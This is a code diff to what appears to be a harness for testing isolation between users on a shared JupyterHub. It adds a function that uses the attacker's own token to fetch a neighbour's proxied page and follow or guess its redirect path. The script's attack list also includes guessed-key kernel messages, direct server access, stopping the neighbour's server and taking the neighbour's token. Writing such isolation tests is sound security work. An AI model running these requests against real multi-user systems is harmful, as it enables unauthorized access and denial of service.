@@ -106,6 +106,27 @@ def hub(path, token=None, method="GET"):
     return attack
 
 
+def through_the_hub(path):
+    """Ask for a page of the neighbour's cluster, and go on to the door that one is sent to."""
+
+    def attack():
+        connection = http.client.HTTPConnection(TARGET["hub"].partition("//")[2], timeout=10)
+        headers = {"Authorization": f"token {TARGET['my_token']}"}
+        try:
+            connection.request("GET", path, headers=headers)
+            answer = connection.getresponse()
+            answer.read()
+            door = answer.headers.get("Location") or ""
+            if "/~" in door:
+                connection.request("GET", door, headers=headers)
+                answer = connection.getresponse()
+            return f"HTTP {answer.status}, {len(answer.read())} bytes"
+        finally:
+            connection.close()
+
+    return attack
+
+
 def server_itself():
     """Ask the neighbour's notebook server at its own port, past the Hub's proxy."""
     refused = set()
@@ -197,7 +218,9 @@ ATTACKS = [
     ("Kernel's ports, messages signed with a guessed key", kernel),
     ("Notebook server at its own port, the attacker's token", server_itself),
     ("Notebook server through the Hub, the attacker's token", hub(TARGET["base"] + "api/contents")),
-    ("A published page through the Hub (proxy URL)", hub(TARGET["base"] + TARGET["proxied"])),
+    ("A published page through the Hub", through_the_hub(TARGET["base"] + TARGET["proxied"])),
+    ("A published page through the Hub, a guessed door",
+     through_the_hub(TARGET["base"] + TARGET["proxied"].replace("/", "/~guessed/", 1))),
     ("The Hub: stop the neighbour's server",
      hub(f"/hub/api/users/{TARGET['name']}/server", method="DELETE")),
     ("The Hub: a token of the neighbour's",
